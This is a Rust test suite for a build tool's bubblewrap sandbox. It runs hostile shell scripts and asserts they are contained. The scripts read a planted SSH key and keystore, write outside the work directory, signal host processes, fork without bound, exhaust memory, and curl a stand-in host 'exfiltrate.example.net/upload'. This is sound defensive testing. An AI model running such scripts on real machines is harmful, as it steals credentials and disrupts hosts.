//! The sandbox against a hostile tool: each test runs a shell script through the process
//! runner with a sandbox policy and checks that what it tries is blocked or limited, and that
//! the host's file, listener or process is untouched. Each escape is first shown to work
//! without the sandbox where that is safe, so a test cannot pass because the attack was broken.
//!
//! Needs `bwrap` (skips without it, fails under `NATIVIWEB_REQUIRE_TOOLS=1`), `curl` and
//! `/usr/bin/python3` for some tests.

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nativiweb_core::events::{event_channel, Event, Stream};
use nativiweb_core::process::{run, Command, Output, ProcessError};
use nativiweb_core::sandbox::{
    Limits, Network, SandboxError, SandboxMode, SandboxPolicy, SandboxStatus,
};
use nativiweb_core::secret::Secrets;
use nativiweb_core::testing;
use nativiweb_core::{BuildContext, Platform};
use secrecy::SecretString;
use tokio::sync::mpsc::UnboundedReceiver;

const RELAY: &str = env!("CARGO_BIN_EXE_nativiweb-relay");

/// A build's folders: `root/work` (the work dir) beside `root/host` (the rest of the machine).
struct Setup {
    _root: tempfile::TempDir,
    root: PathBuf,
    ctx: BuildContext,
    events: UnboundedReceiver<Event>,
}

fn mkdir(path: &Path, mode: u32) {
    std::fs::create_dir_all(path).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A file readable by everyone, so only the sandbox's mounts can keep it from a tool.
fn host_file(path: &Path, content: &str) {
    mkdir(path.parent().unwrap(), 0o755);
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o644)).unwrap();
}

fn setup(policy: Option<SandboxPolicy>) -> Option<Setup> {
    testing::tool("bwrap")?;
    let root_dir = tempfile::tempdir().unwrap();
    let root = root_dir.path().to_owned();
    mkdir(&root, 0o755);
    let work = root.join("work");
    mkdir(&work.join("project"), 0o755);
    let (tx, events) = event_channel();
    let mut ctx = BuildContext::new(&work, Platform::Android).with_events(tx);
    if let Some(policy) = policy {
        ctx = ctx.with_sandbox(policy);
    }
    Some(Setup {
        _root: root_dir,
        root,
        ctx,
        events,
    })
}

fn required() -> SandboxPolicy {
    SandboxPolicy::new(SandboxMode::Required).relay(RELAY)
}

fn sh(script: &str) -> Command {
    Command::new("/bin/sh")
        .args(["-c", script])
        .check(false)
        .capture_stdout(true)
        .timeout(Duration::from_secs(60))
}

fn text(out: &Output) -> String {
    out.tail.join("\n")
}

fn warnings(rx: &mut UnboundedReceiver<Event>) -> Vec<String> {
    let mut out = Vec::new();
    while let Ok(e) = rx.try_recv() {
        if let Event::Log {
            stream: Stream::Warning,
            line,
            ..
        } = e
        {
            out.push(line);
        }
    }
    out
}

const READ_SECRETS: &str = r#"
cat "$FAKE_HOME/.ssh/id_rsa" 2>&1
cat "$KEYSTORE" 2>&1
ls "$FAKE_HOME" 2>&1
echo "exit-ok"
"#;

#[tokio::test]
async fn cannot_read_the_workers_home_or_a_keystore() {
    let Some(mut s) = setup(Some(required())) else {
        return;
    };
    let home = s.root.join("host/home/worker");
    host_file(&home.join(".ssh/id_rsa"), "PRIVATE-KEY-OF-THE-WORKER");
    let keystore = s.root.join("host/keys/release.jks");
    host_file(&keystore, "KEYSTORE-BYTES");
    let cmd = || {
        sh(READ_SECRETS)
            .env("FAKE_HOME", &home)
            .env("KEYSTORE", &keystore)
    };

    // Unsandboxed, the script reads both: the attack works.
    let mut open = s.ctx.clone();
    open.sandbox = SandboxPolicy::new(SandboxMode::Off);
    let out = run(&open, cmd()).await.unwrap();
    assert!(
        text(&out).contains("PRIVATE-KEY-OF-THE-WORKER"),
        "{}",
        text(&out)
    );
    assert!(text(&out).contains("KEYSTORE-BYTES"));

    let out = run(&s.ctx, cmd()).await.unwrap();
    let t = text(&out);
    assert!(t.contains("exit-ok"), "the script did not run: {t}");
    assert!(!t.contains("PRIVATE-KEY"), "read the home: {t}");
    assert!(!t.contains("KEYSTORE-BYTES"), "read the keystore: {t}");
    assert!(t.contains("No such file"), "{t}");
    // The real home of the user running the tests is not there either.
    let out = run(&s.ctx, sh("ls -a /root /home 2>&1; echo HOME=$HOME"))
        .await
        .unwrap();
    let t = text(&out);
    assert!(t.contains("No such file"), "{t}");
    assert!(
        t.contains(&format!("HOME={}", s.ctx.work_dir.join("home").display())),
        "{t}"
    );
    assert!(warnings(&mut s.events).is_empty());
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap(),
        "PRIVATE-KEY-OF-THE-WORKER"
    );
}

#[tokio::test]
async fn cannot_write_outside_the_work_dir() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    let outside = s.root.join("host/shared");
    mkdir(&outside, 0o777);
    let host_tmp =
        std::env::temp_dir().join(format!("nativiweb-sandbox-pwned-{}", std::process::id()));
    let script = r#"
echo pwned > "$OUTSIDE/pwned" 2>&1 || echo "outside refused"
echo pwned > "$HOST_TMP" || echo "tmp refused"
echo built > "$PWD/inside.txt" && echo "inside ok"
"#;
    let out = run(
        &s.ctx,
        sh(script)
            .env("OUTSIDE", &outside)
            .env("HOST_TMP", &host_tmp)
            .current_dir(&s.ctx.project_dir),
    )
    .await
    .unwrap();
    let t = text(&out);
    assert!(t.contains("outside refused"), "{t}");
    assert!(t.contains("inside ok"), "{t}");
    assert!(!outside.join("pwned").exists());
    // Its /tmp is private: the file went there, not to the host's.
    assert!(!host_tmp.exists());
    assert_eq!(
        std::fs::read_to_string(s.ctx.project_dir.join("inside.txt")).unwrap(),
        "built\n"
    );
    // A folder the worker writes between two tools (a generated project) is writable by the
    // next tool.
    mkdir(&s.ctx.project_dir.join("generated"), 0o755);
    let out = run(
        &s.ctx,
        sh("echo more > generated/next.txt && echo next-ok").current_dir(&s.ctx.project_dir),
    )
    .await
    .unwrap();
    assert!(text(&out).contains("next-ok"), "{}", text(&out));
}

/// The uid a sandbox runs as here, so a process of the test shares it (a signal is then
/// refused by the pid namespace, not by permissions).
fn sandbox_uid() -> Option<u32> {
    nix::unistd::geteuid().is_root().then_some(65534)
}

#[tokio::test]
async fn cannot_see_or_signal_other_processes() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    let mut victim = std::process::Command::new("sleep");
    victim.arg("60");
    if let Some(uid) = sandbox_uid() {
        victim.uid(uid).gid(uid);
    }
    let mut victim = victim.spawn().unwrap();
    let pid = victim.id();
    let script = r#"
test -e /proc/$VICTIM && echo "SEEN"
kill -9 $VICTIM 2>/dev/null && echo "KILLED"
echo "pids: $(ls /proc | grep -c '^[0-9]')"
grep -E '^(NoNewPrivs|CapEff)' /proc/self/status
"#;
    let out = run(&s.ctx, sh(script).env("VICTIM", pid.to_string()))
        .await
        .unwrap();
    let t = text(&out);
    assert!(!t.contains("SEEN"), "{t}");
    assert!(!t.contains("KILLED"), "{t}");
    let count: usize = t
        .lines()
        .find_map(|l| l.strip_prefix("pids: "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("{t}"));
    assert!(count < 10, "the sandbox sees {count} processes: {t}");
    assert!(t.contains("NoNewPrivs:\t1"), "{t}");
    assert!(t.contains("CapEff:\t0000000000000000"), "{t}");
    assert!(victim.try_wait().unwrap().is_none(), "the victim died");

    // Unsandboxed, the same script sees it (the check works).
    let mut open = s.ctx.clone();
    open.sandbox = SandboxPolicy::new(SandboxMode::Off);
    let t = text(
        &run(
            &open,
            sh("test -e /proc/$VICTIM && echo SEEN").env("VICTIM", pid.to_string()),
        )
        .await
        .unwrap(),
    );
    assert!(t.contains("SEEN"), "{t}");
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[tokio::test]
async fn cannot_connect_to_a_host_listener() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    if !testing::require("/usr/bin/python3", Path::new("/usr/bin/python3").is_file()) {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = r#"
/usr/bin/python3 -c "
import socket, sys
try:
    socket.create_connection(('127.0.0.1', int(sys.argv[1])), 3); print('CONNECTED')
except OSError as e:
    print('refused', e)
" "$PORT"
"#;
    // Even with a proxy network, loopback is the sandbox's own.
    let mut ctx = s.ctx.clone();
    for network in [Network::None, Network::proxy(["example.org"]).unwrap()] {
        ctx.sandbox.network = network;
        let out = run(&ctx, sh(script).env("PORT", port.to_string()))
            .await
            .unwrap();
        let t = text(&out);
        assert!(t.contains("refused"), "{t}");
        assert!(!t.contains("CONNECTED"), "{t}");
    }
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the listener saw a connection: {other:?}"),
    }
}

/// A one-response HTTP server on the host's loopback.
fn http_server(body: &'static str) -> (u16, std::thread::JoinHandle<usize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || {
        let mut served = 0;
        listener.set_nonblocking(false).unwrap();
        for conn in listener.incoming().take(2) {
            let mut conn = conn.unwrap();
            let mut buf = [0u8; 4096];
            let mut head = Vec::new();
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                let n = conn.read(&mut buf).unwrap();
                if n == 0 {
                    break;
                }
                head.extend_from_slice(&buf[..n]);
            }
            let reply = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            conn.write_all(reply.as_bytes()).unwrap();
            served += 1;
        }
        served
    });
    (port, handle)
}

#[tokio::test]
async fn an_allowed_host_is_reached_through_the_proxy() {
    let Some(mut s) = setup(None) else {
        return;
    };
    if testing::tool("curl").is_none() {
        return;
    }
    let (port, server) = http_server("HELLO-FROM-THE-REGISTRY");
    s.ctx.sandbox = required().network(Network::proxy([format!("127.0.0.1:{port}")]).unwrap());
    // Plain HTTP through the proxy (absolute-form GET), then a CONNECT tunnel (as HTTPS uses).
    let script = r#"
curl -sS --max-time 10 -x "$HTTP_PROXY" "http://127.0.0.1:$PORT/pkg" ; echo
curl -sS --max-time 10 -p -x "$HTTP_PROXY" "http://127.0.0.1:$PORT/pkg" ; echo
"#;
    let out = run(&s.ctx, sh(script).env("PORT", port.to_string()))
        .await
        .unwrap();
    let t = text(&out);
    assert_eq!(
        t.matches("HELLO-FROM-THE-REGISTRY").count(),
        2,
        "both requests must get through: {t}"
    );
    assert_eq!(server.join().unwrap(), 2);
    assert!(warnings(&mut s.events).is_empty());
}

#[tokio::test]
async fn a_host_not_allowed_is_refused_and_logged() {
    let Some(mut s) = setup(None) else {
        return;
    };
    if testing::tool("curl").is_none() {
        return;
    }
    let (port, _server) = http_server("SHOULD-NOT-BE-SEEN");
    s.ctx.sandbox = required().network(Network::proxy(["registry.npmjs.org"]).unwrap());
    let script = r#"
curl -sS --max-time 10 https://exfiltrate.example.net/upload 2>&1; echo "https: $?"
curl -fsS --max-time 10 -x "$HTTP_PROXY" "http://127.0.0.1:$PORT/" 2>&1; echo "http: $?"
curl -sS --max-time 10 --noproxy '*' https://registry.npmjs.org/ 2>&1; echo "direct: $?"
"#;
    let out = run(&s.ctx, sh(script).env("PORT", port.to_string()))
        .await
        .unwrap();
    let t = text(&out);
    assert!(!t.contains("SHOULD-NOT-BE-SEEN"), "{t}");
    assert!(
        !t.contains("https: 0") && !t.contains("http: 0") && !t.contains("direct: 0"),
        "{t}"
    );
    let warned = warnings(&mut s.events);
    assert!(
        warned
            .iter()
            .any(|w| w.contains("exfiltrate.example.net:443")),
        "{warned:?}"
    );
    assert!(
        warned
            .iter()
            .any(|w| w.contains(&format!("127.0.0.1:{port}"))),
        "{warned:?}"
    );
}

#[tokio::test]
async fn forking_without_bound_hits_the_process_limit() {
    let limits = Limits {
        processes: Some(40),
        ..Limits::default()
    };
    let Some(s) = setup(Some(required().limits(limits))) else {
        return;
    };
    let script = r#"
i=0
while [ $i -lt 500 ]; do sleep 30 & i=$((i+1)); done
echo "forked $i"
"#;
    let started = Instant::now();
    let out = run(&s.ctx, sh(script)).await.unwrap();
    let t = text(&out);
    assert!(!t.contains("forked 500"), "{t}");
    assert!(t.to_lowercase().contains("fork"), "{t}");
    assert_ne!(out.code, 0);
    assert!(started.elapsed() < Duration::from_secs(20));
    // A bound that fits lets the same tool fork.
    let limits = Limits {
        processes: Some(2000),
        ..Limits::default()
    };
    let mut ctx = s.ctx.clone();
    ctx.sandbox = ctx.sandbox.clone().limits(limits);
    let t = text(&run(&ctx, sh(&script.replace("500", "50"))).await.unwrap());
    assert!(t.contains("forked 50"), "{t}");
}

#[tokio::test]
async fn allocating_8_gib_hits_the_address_space_limit() {
    let limits = Limits {
        address_space: Some(2 << 30),
        ..Limits::default()
    };
    let Some(s) = setup(Some(required().limits(limits))) else {
        return;
    };
    if !testing::require("/usr/bin/python3", Path::new("/usr/bin/python3").is_file()) {
        return;
    }
    let out = run(
        &s.ctx,
        Command::new("/usr/bin/python3")
            .args(["-c", "b = bytearray(8 << 30); print('ALLOCATED', len(b))"])
            .check(false),
    )
    .await
    .unwrap();
    let t = text(&out);
    assert!(t.contains("MemoryError"), "{t}");
    assert!(!t.contains("ALLOCATED"), "{t}");
    assert_ne!(out.code, 0);
}

/// Pids of host processes whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) {
            if String::from_utf8_lossy(&cmdline).contains(marker) {
                found.push(pid);
            }
        }
    }
    found
}

#[tokio::test]
async fn the_whole_tree_dies_at_exit_and_timeout() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    // A daemon that leaves the process group (setsid) and the tool's session: only the pid
    // namespace's end kills it.
    let marker = format!("{}", 3000 + std::process::id() % 1000);
    let script = format!("setsid sleep {marker}.5 & sleep {marker}.25 & echo started");
    let out = run(&s.ctx, sh(&script)).await.unwrap();
    assert!(text(&out).contains("started"));
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(processes_with(&format!("{marker}.5")), Vec::<u32>::new());
    assert_eq!(processes_with(&format!("{marker}.25")), Vec::<u32>::new());

    let script = format!("setsid sleep {marker}.75 & sleep 60");
    let err = run(&s.ctx, sh(&script).timeout(Duration::from_millis(500)))
        .await
        .unwrap_err();
    assert!(err.is_timeout(), "{err}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(processes_with(&format!("{marker}.75")), Vec::<u32>::new());
}

#[tokio::test]
async fn no_secret_and_no_worker_environment_enter() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    let ctx = s.ctx.clone().with_secrets(
        Secrets::new().with("NPM_TOKEN", SecretString::from("npm_SECRET".to_owned())),
    );
    let ctx = ctx.with_sandbox(required());
    let err = run(&ctx, sh("env").secret_env("NPM_TOKEN"))
        .await
        .unwrap_err();
    match &err {
        ProcessError::Sandbox { source, .. } => match source.as_ref() {
            SandboxError::SecretRequested { name, .. } => assert_eq!(name, "NPM_TOKEN"),
            other => panic!("{other}"),
        },
        other => panic!("{other}"),
    }
    assert!(err.to_string().contains("NPM_TOKEN"), "{err}");

    // The worker's environment (cargo sets CARGO_* for tests) stays out; the step's goes in.
    assert!(std::env::var_os("CARGO_MANIFEST_DIR").is_some());
    let mut ctx = s.ctx.clone();
    ctx.env.insert("STEP_VAR".into(), "yes".into());
    let out = run(&ctx, sh("env")).await.unwrap();
    assert!(
        out.stdout.iter().any(|l| l == "STEP_VAR=yes"),
        "{:?}",
        out.stdout
    );
    assert!(
        !out.stdout.iter().any(|l| l.starts_with("CARGO")),
        "{:?}",
        out.stdout
    );
}

#[tokio::test]
async fn without_bwrap_required_refuses_and_auto_warns() {
    let root = tempfile::tempdir().unwrap();
    let (tx, mut rx) = event_channel();
    let mut policy = SandboxPolicy::new(SandboxMode::Required);
    policy.bwrap = Some(root.path().join("no-such-bwrap"));
    assert!(matches!(policy.status(), SandboxStatus::Unavailable { .. }));
    let ctx = BuildContext::new(root.path(), Platform::Android)
        .with_events(tx)
        .with_sandbox(policy.clone());
    let err = run(&ctx, Command::new("/bin/true")).await.unwrap_err();
    match &err {
        ProcessError::Sandbox { source, .. } => match source.as_ref() {
            SandboxError::Unavailable { reason } => {
                assert!(reason.contains("no-such-bwrap"), "{reason}")
            }
            other => panic!("{other}"),
        },
        other => panic!("{other}"),
    }
    assert!(err.to_string().contains("bubblewrap"), "{err}");

    policy.mode = SandboxMode::Auto;
    let ctx = ctx.with_sandbox(policy);
    run(&ctx, Command::new("/bin/true")).await.unwrap();
    run(&ctx, Command::new("/bin/true")).await.unwrap();
    let warned = warnings(&mut rx);
    assert_eq!(warned.len(), 1, "warned once per build: {warned:?}");
    assert!(warned[0].contains("UNSANDBOXED"), "{warned:?}");
    // The next build is told again.
    let ctx = ctx.clone().with_sandbox(ctx.sandbox.for_new_build());
    run(&ctx, Command::new("/bin/true")).await.unwrap();
    assert_eq!(warnings(&mut rx).len(), 1);
}

/// The cost of the sandbox per tool start; prints the figures (`--nocapture`).
#[tokio::test]
async fn per_start_overhead() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    const N: u32 = 20;
    let mut open = s.ctx.clone();
    open.sandbox = SandboxPolicy::new(SandboxMode::Off);
    let mut proxied = s.ctx.clone();
    proxied.sandbox = required().network(Network::proxy(["registry.npmjs.org"]).unwrap());
    let mut per = Vec::new();
    for (name, ctx) in [
        ("unsandboxed", &open),
        ("sandbox, no network", &s.ctx),
        ("sandbox + proxy + relay", &proxied),
    ] {
        run(ctx, Command::new("/bin/true")).await.unwrap(); // warm up (probe, chown)
        let started = Instant::now();
        for _ in 0..N {
            run(ctx, Command::new("/bin/true")).await.unwrap();
        }
        let each = started.elapsed() / N;
        eprintln!("tool start, {name}: {:.2} ms", each.as_secs_f64() * 1000.0);
        per.push(each);
    }
    // The goal is under 20 ms per start; the test allows ten times that on a loaded machine.
    assert!(per[1] < Duration::from_millis(200), "{per:?}");
    assert!(per[2] < Duration::from_millis(200), "{per:?}");
}

/// A builder that runs a probe tool through the runner (under the pipeline's sandbox), then
/// builds like [`WebZipBuilder`].
#[derive(Debug)]
struct ProbeBuilder {
    inner: nativiweb_core::memory::WebZipBuilder,
    secret: PathBuf,
    seen: std::sync::Arc<std::sync::Mutex<String>>,
}

#[nativiweb_core::async_trait]
impl nativiweb_core::Builder for ProbeBuilder {
    fn name(&self) -> &str {
        "probe"
    }
    fn platform(&self) -> Platform {
        self.inner.platform()
    }
    async fn build(
        &self,
        ctx: &BuildContext,
        input: &nativiweb_core::BuildInput,
    ) -> nativiweb_core::Result<Vec<nativiweb_core::Artifact>> {
        let out = run(
            ctx,
            sh("cat \"$SECRET\" 2>&1; echo \"proxy=${HTTPS_PROXY:-none}\"; echo \"pids=$(ls /proc | grep -c '^[0-9]')\"")
                .env("SECRET", &self.secret),
        )
        .await?;
        *self.seen.lock().unwrap() = text(&out);
        self.inner.build(ctx, input).await
    }
}

#[tokio::test]
async fn the_pipeline_runs_its_tools_in_its_sandbox_with_per_step_networks() {
    let Some(s) = setup(None) else {
        return;
    };
    let secret = s.root.join("host/worker.conf");
    host_file(&secret, "REDIS_PASSWORD=hunter2");
    let seen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let pipeline = |network: Option<Network>| {
        let mut p = nativiweb_core::Pipeline::new(
            Box::new(
                nativiweb_core::memory::MemorySource::new()
                    .file("index.html", "<h1>hi</h1>")
                    .file("nativiweb.toml", "id = \"com.example.sb\"\nname = \"Sb\"\n"),
            ),
            Box::new(ProbeBuilder {
                inner: nativiweb_core::memory::WebZipBuilder::new(Platform::Android),
                secret: secret.clone(),
                seen: seen.clone(),
            }),
            Box::new(nativiweb_core::memory::MemorySink::new()),
        )
        .skip_web_build(true)
        .work_dir_parent(&s.root)
        .sandbox(required().network(Network::proxy(["registry.npmjs.org"]).unwrap()));
        if let Some(n) = network {
            p = p.sandbox_network(nativiweb_core::Step::Build, n);
        }
        p
    };
    for (network, proxied) in [(None, true), (Some(Network::None), false)] {
        let (events, _rx) = event_channel();
        let report = pipeline(network)
            .run(events, nativiweb_core::CancellationToken::new())
            .await;
        assert_eq!(
            report.status,
            nativiweb_core::BuildStatus::Success,
            "{:?}",
            report.error
        );
        let t = seen.lock().unwrap().clone();
        assert!(!t.contains("hunter2"), "{t}");
        assert!(t.contains("No such file"), "{t}");
        assert!(t.contains("pids=") && !t.contains("pids=0"), "{t}");
        let count: usize = t
            .lines()
            .find_map(|l| l.strip_prefix("pids="))
            .and_then(|n| n.parse().ok())
            .unwrap();
        assert!(count < 10, "{t}");
        assert_eq!(t.contains("proxy=http://127.0.0.1:3128"), proxied, "{t}");
        assert_eq!(t.contains("proxy=none"), !proxied, "{t}");
    }
}

#[tokio::test]
async fn file_size_and_cpu_time_are_limited() {
    let limits = Limits {
        file_size: Some(1 << 20),
        cpu_seconds: Some(1),
        ..Limits::default()
    };
    let Some(s) = setup(Some(required().limits(limits))) else {
        return;
    };
    let out = run(
        &s.ctx,
        sh("head -c 4194304 /dev/zero > big.bin; echo \"head: $?\"; wc -c < big.bin")
            .current_dir(&s.ctx.work_dir),
    )
    .await
    .unwrap();
    let t = text(&out);
    assert!(!t.contains("head: 0"), "{t}");
    assert!(t.lines().any(|l| l.trim() == "1048576"), "{t}");
    assert_eq!(
        std::fs::metadata(s.ctx.work_dir.join("big.bin"))
            .unwrap()
            .len(),
        1 << 20
    );

    let started = Instant::now();
    let err = run(
        &s.ctx,
        Command::new("/bin/sh").args(["-c", "while :; do :; done"]),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, ProcessError::Failed { .. }),
        "the CPU limit must stop it: {err}"
    );
    assert!(started.elapsed() < Duration::from_secs(30), "{err}");
}

#[tokio::test]
async fn cancel_kills_the_sandbox_and_its_daemons() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    let marker = format!("{}", 4000 + std::process::id() % 1000);
    let cancel = nativiweb_core::CancellationToken::new();
    let ctx = s.ctx.clone().with_cancel(cancel.clone());
    let script = format!("setsid sleep {marker}.5 & echo up; sleep 60");
    let task = tokio::spawn(async move { run(&ctx, sh(&script)).await });
    let started = Instant::now();
    while processes_with(&format!("{marker}.5")).is_empty() {
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "the daemon never started"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    cancel.cancel();
    let err = task.await.unwrap().unwrap_err();
    assert!(err.is_cancelled(), "{err}");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(processes_with(&format!("{marker}.5")), Vec::<u32>::new());
}

#[tokio::test]
async fn cannot_reach_a_host_abstract_unix_socket() {
    use std::os::linux::net::SocketAddrExt;
    let Some(s) = setup(Some(required())) else {
        return;
    };
    if !testing::require("/usr/bin/python3", Path::new("/usr/bin/python3").is_file()) {
        return;
    }
    let name = format!("nativiweb-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = r#"/usr/bin/python3 -c "
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('\0' + sys.argv[1]); print('CONNECTED')
except OSError as e:
    print('refused', e)
" "$NAME""#;
    let mut open = s.ctx.clone();
    open.sandbox = SandboxPolicy::new(SandboxMode::Off);
    let t = text(&run(&open, sh(script).env("NAME", &name)).await.unwrap());
    assert!(
        t.contains("CONNECTED"),
        "the attack must work unsandboxed: {t}"
    );
    let _ = listener.accept();

    let t = text(&run(&s.ctx, sh(script).env("NAME", &name)).await.unwrap());
    assert!(t.contains("refused"), "{t}");
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the host socket saw a connection: {other:?}"),
    }
}

#[tokio::test]
async fn a_tool_outside_the_sandbox_is_named_with_the_fix() {
    let Some(s) = setup(Some(required())) else {
        return;
    };
    // A toolchain in a folder the sandbox does not show (like ~/.nvm): named, with the fix.
    let toolchain = s.root.join("host/toolchain/bin");
    mkdir(&toolchain, 0o755);
    let tool = toolchain.join("mytool");
    std::fs::write(&tool, "#!/bin/sh\necho from-the-toolchain\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let err = run(&s.ctx, Command::new(&tool)).await.unwrap_err();
    assert!(err.to_string().contains("read-only folders"), "{err}");
    assert!(err.to_string().contains("mytool"), "{err}");
    let err = run(&s.ctx, Command::new("no-such-tool-nativiweb"))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("not found"), "{err}");

    // Shown read-only, it runs.
    let mut ctx = s.ctx.clone();
    ctx.sandbox = ctx.sandbox.clone().read_only(s.root.join("host/toolchain"));
    let out = run(&ctx, Command::new(&tool).capture_stdout(true))
        .await
        .unwrap();
    assert_eq!(out.stdout, vec!["from-the-toolchain".to_owned()]);
}
